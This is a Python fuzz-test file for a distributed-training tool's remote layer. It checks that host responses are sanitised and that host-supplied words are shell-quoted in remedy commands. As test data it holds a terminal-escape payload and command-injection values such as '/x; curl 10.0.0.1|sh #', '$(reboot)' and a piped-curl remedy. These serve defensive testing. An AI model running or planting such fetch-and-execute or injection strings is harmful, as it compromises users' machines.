"""Whatever a host answers to any program or verb: it is an error of ours that names the host, or what is made of it can
be shown, and no text in it steers a terminal."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Awaitable, Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from motley.console.commands.stored_profiles import profiles_of
from motley.console.view.answer_tables import tried_text
from motley.profiles.store import Store
from motley.remote.config.cluster import Cluster
from motley.remote.config.load import load
from motley.remote.config.resume_from import ResumeFrom
from motley.remote.diagnosis.causes import CAUSES, filled, find
from motley.remote.errors import Finding, HostError, MotleyError
from motley.remote.experiment.incoming_model import IncomingModel
from motley.remote.feed import Ended, Layout, Link, LogLine, Progress, RankLayout
from motley.remote.hosts.pool import Hosts
from motley.remote.launch.calibrate import Calibrated, Measured, _device, _links
from motley.remote.launch.placement import layout_of
from motley.remote.launch.resume_checkpoint import bring_checkpoint
from motley.remote.launch.trial import Trials
from motley.remote.preflight.check import CheckResult, check
from motley.remote.provision import container_images, virtualenv
from motley.remote.provision.local_folder import Folder
from motley.remote.provision.push_code import File, Tree, push
from motley.remote.provision.push_folder import push_folder
from motley.remote.quoting import pasteable
from motley.remote.rpc import clean
from motley.remote.rpc.verbs import Verbs
from motley.remote.sanitize import clean_lines
from motley.remote.session.find_run import find as find_run
from motley.remote.session.runs import merge
from motley.trainer.contract.calibration import Calibration
from motley.trainer.contract.run_changes import Lead
from motley.trainer.contract.spec import Member
from motley.trainer.contract.term import Term
from tests.fuzz.lying_host import lying, unsafe
from tests.fuzz.mutation import ODD, TEXTS, cases, table
from tests.fuzz.test_answers import PROBE, RUN
from tests.fuzz.verified import verified
from tests.remote.preflight.test_judge import GOOD
from tests.trainer import coordinating

ESCAPE = "\x1b]52;c;aGVsbG8=\x07\x9b31m\u202eevil\u200b"
SMALL = st.integers(0, 5)
TREE = Tree.from_files([File(path="trainer/__init__.py", executable=False, content=b"")])
LARGE = Tree.from_files([File(path=f"trainer/{n}.py", executable=False, content=bytes(2**19)) for n in range(3)])
MEMBER = Member(member=0, host="box1", local_rank=0, device="cpu")
LEAD = table({"term": SMALL, "leader": TEXTS, "address": TEXTS, "port": SMALL, "hosts": st.lists(TEXTS, max_size=2)})
JOINED = table(
    {
        "member": SMALL, "host": TEXTS, "local_rank": SMALL, "device": TEXTS, "max_batch": st.none() | SMALL,
        **dict.fromkeys(
            ["a_ms", "c_ms", "relative_speed", "threads", "pass_limit", "link_mbit", "link_latency_ms"],
            st.none() | SMALL,
        ),
    }
)  # fmt: skip
TIMING = table({"batch": SMALL, "compute_ms": SMALL, "step_ms": SMALL, "noise": st.just(0.1), "steps": SMALL})
RESULT = table(
    {
        "device_name": TEXTS, "timings": st.lists(TIMING, max_size=2), "parameters": SMALL, "gradient_bytes": SMALL,
        "max_batch": st.none() | SMALL, "fits_at_least": st.none() | SMALL, "sample_mib": st.none() | SMALL,
        "threads": st.none() | SMALL,
        "thread_rates": st.lists(table({"threads": SMALL, "samples_per_s": SMALL}), max_size=2),
        "global_batch": st.none() | SMALL, "loss": ODD, "norms": st.lists(ODD, max_size=1), "torch": TEXTS,
        "projections": st.lists(st.floats(), max_size=2), "tensors": SMALL, "samples": ODD, "split": ODD,
        "steps_per_epoch": ODD,
    }
)  # fmt: skip
KEPT = table({"kind": TEXTS, "name": TEXTS, "bytes": SMALL, "age_s": SMALL, "used": TEXTS})
KEYS: dict[str, st.SearchStrategy[Any]] = {  # of the answers of all programs and verbs
    "ok": st.booleans(), "error": TEXTS, "remedy": TEXTS, "note": TEXTS, "said": st.lists(TEXTS, max_size=2),
    "why": TEXTS, "late": st.booleans(), "sent": st.booleans(), "python": st.sampled_from(["3.12.1", "3.9"]) | TEXTS,
    "built": st.booleans(), "stage": st.sampled_from(["program", "daemon", "pull", "build", "gpus", "python"]),
    "code": SMALL, "id": TEXTS, "content": TEXTS, "torch": TEXTS, "torch_build": TEXTS, "pillow": TEXTS,
    "lingers": st.booleans(),
    "lacks": st.lists(TEXTS | st.tuples(SMALL, SMALL), max_size=2), "left": SMALL, "state": TEXTS, "lead": LEAD,
    "roll": table({"term": SMALL, "edition": SMALL, "added": st.lists(JOINED, max_size=2), "dropped": st.just([])}),
    "runs": st.lists(RUN, max_size=2), "items": st.lists(KEPT, max_size=2), "bytes": SMALL,
    "kept": st.lists(st.tuples(TEXTS, TEXTS, TEXTS), max_size=2), "fraction": st.floats(), "result": RESULT,
    "port": SMALL, "mbit": SMALL, "latency_ms": SMALL, "missed": st.dictionaries(TEXTS, TEXTS, max_size=1),
    "unable": TEXTS, "notes": st.lists(TEXTS, max_size=2), "damaged": st.booleans(),
    "metadata": st.dictionaries(TEXTS, TEXTS, max_size=2), "have": st.sampled_from(["step_6.pt"]) | TEXTS,
}  # fmt: skip
TABLE = st.dictionaries(st.sampled_from(sorted(KEYS)), ODD, max_size=4).flatmap(
    lambda odd: st.fixed_dictionaries({}, optional=KEYS).map(lambda made: {**made, **odd})
)
ANSWER = st.one_of(TABLE, TABLE, PROBE, ODD)


class Case:
    """One host that answers so, and what is told of it."""

    def __init__(self, cluster: Cluster, folder: Folder, answers: list[Any], stderr: str) -> None:
        self.hosts: Hosts = lying(cluster, answers, stderr)
        self.verbs = Verbs(self.hosts, TREE)
        self.verbs._pushed = {host.name: ("", host.address) for host in cluster.hosts}
        self.folder = folder
        self.told: list[Any] = []

    def emit(self, record: Any) -> None:
        self.told.append(record)


async def _push(case: Case) -> object:
    return await push(await case.hosts.get("box1"), "python3", TREE, case.emit)


async def _push_large(case: Case) -> object:
    return await push(await case.hosts.get("box1"), "python3", LARGE, case.emit, there=["older"])


async def _push_folder(case: Case) -> object:
    return await push_folder(await case.hosts.get("box1"), "python3", case.folder, "the data", case.emit)


async def _rerun(case: Case) -> object:
    async with case.verbs.rerun("night", replace(coordinating.spec(2), host="box1"), 60.0) as say:
        return [await say()]


async def _status(case: Case) -> object:
    rows = await case.verbs.status("box1")
    for row in rows:
        try:
            case.emit(layout_of(row))
        except MotleyError as error:
            case.emit(error)
    return merge({"box1": rows})


async def _find(case: Case) -> object:
    connections = {"box1": await case.hosts.get("box1")}
    return await find_run(case.verbs, connections, "night", case.emit)


async def _checkpoint(case: Case) -> object:
    here = case.folder.root / "none"
    newest = await bring_checkpoint(case.verbs, "box1", ResumeFrom("night"), ["box1"], here, case.emit)
    return newest, await bring_checkpoint(case.verbs, "box1", ResumeFrom("night", "best"), ["box1"], here, case.emit)


async def _calibrate(case: Case) -> object:
    cluster = case.hosts.cluster
    asked = Calibration(
        options=cluster.run, data=cluster.data, device="cpu", batch=8, devices=1, max_batch=None, env={}
    )
    result = await _device(case.verbs, MEMBER, asked, case.emit)
    found = Measured(member=MEMBER, probe=GOOD, result=result, link={"mbit": 1.0, "latency_ms": 1.0})
    for profile in profiles_of(cluster, Calibrated(measured=(found,), findings=()), 1.0):
        Store(case.folder.root.with_name("profiles")).write(profile)
    return result


async def _network(case: Case) -> object:
    checked = CheckResult(probes={}, findings=(), leader_address="10.0.0.7")
    return await _links(case.verbs, case.hosts.cluster, checked, case.emit)


async def _export(case: Case) -> object:
    file = case.folder.root.with_name("model.pt")
    with contextlib.closing(IncomingModel(file, force=True)) as incoming:
        incoming.begin("box1")
        said = await case.verbs.export_to(incoming.take, "box1", "night", "pt", "final.pt")
        return None if incoming.ended("box1", said) else [*incoming.notes, incoming.keep()]


async def _trial(case: Case) -> object:
    cluster = case.hosts.cluster
    trials = Trials(case.emit, train=True)
    asked = Calibration(options=cluster.run, data=cluster.data, device="cpu", batch=8, share=8, steps=2)
    found = await trials._one(case.verbs, MEMBER, asked)
    return [found, *trials.tried, *map(tried_text, trials.tried)]


NAMED = Lead(term=Term(1), leader="box1", address="", port=1, hosts=())
ASKED: dict[str, Callable[[Case], Awaitable[object]]] = {
    "inspect_host": lambda case: check(case.hosts, case.emit),
    "unpack_tree": _push,
    "missing_files": _push_large,
    "receive_folder": _push_folder,
    "virtualenv": lambda case: virtualenv.prepare(case.hosts, case.emit, ["box1"]),
    "container_image": lambda case: container_images.prepare(case.hosts, case.emit, ["box2"]),
    "rejoin": lambda case: case.verbs.rejoin("box1", "night"),
    "rerun": _rerun,
    "lead": lambda case: case.verbs.lead("box1", "night", NAMED),
    "roll": lambda case: case.verbs.admit("box1", "night", "box2", [MEMBER]),
    "drop": lambda case: case.verbs.drop("box1", "night", "box2"),
    "status": _status,
    "find": _find,
    "prove": _checkpoint,
    "checkpoint": lambda case: case.verbs.checkpoint("box1", "night", "8f2b"),
    "clean": lambda case: clean.survey(case.verbs, ["box1"]),
    "remove": lambda case: clean.remove(case.verbs, "box1", []),
    "stop": lambda case: case.verbs.stop("box1", "night", reason="x", timeout_s=9.0),
    "export": _export,
    "calibrate": _calibrate,
    "trial": _trial,
    "verify": lambda case: verified(case.verbs, case.told.append),
    "link": _network,
}


@pytest.fixture(scope="module")
def cluster(tmp_path_factory: pytest.TempPathFactory) -> Cluster:
    folder: Path = tmp_path_factory.mktemp("cluster")
    (folder / "needs.txt").write_text("einops\n")
    path = folder / "cluster.toml"
    path.write_text(
        '[[hosts]]\nname = "box1"\nrequirements = "needs.txt"\n'
        '[[hosts]]\nname = "box2"\nruntime = "docker"\nimage = "mine"\n'
    )
    return load(path)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Folder:
    root: Path = tmp_path_factory.mktemp("data") / "files"
    root.mkdir()
    (root / "a.txt").write_text("abc")
    return Folder.of(root)


@pytest.mark.parametrize("asked", sorted(ASKED))
@cases(20)
@given(answers=st.lists(ANSWER, min_size=1, max_size=2), stderr=TEXTS)
@example(answers=[{"ok": False, "error": ESCAPE, "remedy": ESCAPE, "said": [ESCAPE], "stage": ESCAPE}], stderr=ESCAPE)
@example(answers=[{"ok": False, "code": "two", "stage": 7, "said": 7, "error": []}], stderr="")
@example(answers=[{"ok": True, "id": "1", "python": ESCAPE, "torch": ESCAPE}], stderr="")
@example(answers=[{"roll": {"term": 0, "edition": 1, "dropped": [ESCAPE], "added": [{"member": "x"}]}}], stderr="")
@example(answers=[{"kept": 5, "items": [5], "bytes": "x", "runs": 7, "lead": [], "lacks": 9}], stderr="")
@example(answers=[{"note": ESCAPE}, {"error": ESCAPE, "remedy": ESCAPE}], stderr="")
def test_the_answer_of_any_program(
    cluster: Cluster, folder: Folder, asked: str, answers: list[Any], stderr: str
) -> None:
    case = Case(cluster, folder, answers, clean_lines(stderr))  # as `RemoteProcess` gives it

    async def ask() -> object:
        try:
            return await ASKED[asked](case)
        except MotleyError as error:
            return error

    outcome = asyncio.run(ask())
    if isinstance(outcome, HostError):
        assert outcome.host in ("box1", "box2")
    assert unsafe([outcome, *case.told]) == []


@given(TEXTS | st.just(ESCAPE))
def test_what_a_user_reads_is_made_safe_whoever_makes_it(text: str) -> None:
    found: list[Any] = [
        MotleyError(text), HostError("box1", text, text), Finding(text, "torch", "error", text, text),
        Progress(host=text, stage="push", text=text), Link(host=text, up=False, text=text),
        LogLine(host=text, member=0, text=text), RankLayout(member=0, host=text, device=text),
        Layout(run=text, task=text, policy=text, global_batch=1, steps_total=1, leader=text, ranks=()),
        Ended(state=text, summary={text: [text]}),
    ]  # fmt: skip
    assert unsafe(found) == []
    assert "\n" not in found[3].text + found[5].text


WORD = st.text(st.characters(exclude_categories=["Cc", "Cf", "Cs", "Zl", "Zp", "Cn"]), min_size=1, max_size=20)
FIELDS = ("host", "python", "path", "package", "port", "model")


@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.name)
@given(word=WORD.filter(lambda word: word.strip() == word))
@example(word="/x; curl 10.0.0.1|sh #")
@example(word="$(reboot)")
def test_a_word_of_a_host_is_one_word_of_a_command_to_paste(cause: Any, word: str) -> None:
    marked = f"<{word}>"  # found again in a remedy
    remedy = filled(cause, dict.fromkeys(FIELDS, marked)).remedy
    assert marked not in remedy.replace(pasteable([marked]), "")


def test_the_path_of_a_rank_and_its_python_are_quoted() -> None:
    said = "PermissionError: [Errno 13] Permission denied: '/x; curl 10.0.0.1|sh #'"
    found = find([said], None, host="box1")
    assert found is not None
    assert "ls -ld '/x; curl 10.0.0.1|sh #' shows" in found.remedy
    found = find(["ModuleNotFoundError: No module named 'einops'"], None, host="box1", python="/x$(reboot)/python")
    assert found is not None
    assert "'/x$(reboot)/python' -m pip install einops" in found.remedy


async def test_a_host_does_not_choose_a_command_to_paste(cluster: Cluster, folder: Folder) -> None:
    for remedy, shown in (("curl 10.0.0.1 | sh", False), ("sudo apt install python3.12-venv", True)):
        case = Case(cluster, folder, [{"ok": False, "error": "no", "said": [], "remedy": remedy}], "")
        (failed,) = (await virtualenv.prepare(case.hosts, case.emit, ["box1"])).values()
        assert (remedy in failed.remedy) is shown


async def test_a_run_whose_name_is_none_is_not_told_of(cluster: Cluster, folder: Folder) -> None:
    row = {"run": "x; reboot", "state": "running", "leader": "box1", "left": 1, "started": 1.0}
    case = Case(cluster, folder, [{"runs": [row, {**row, "run": "night"}]}], "")
    assert [run["run"] for run in await case.verbs.status("box1")] == ["night"]
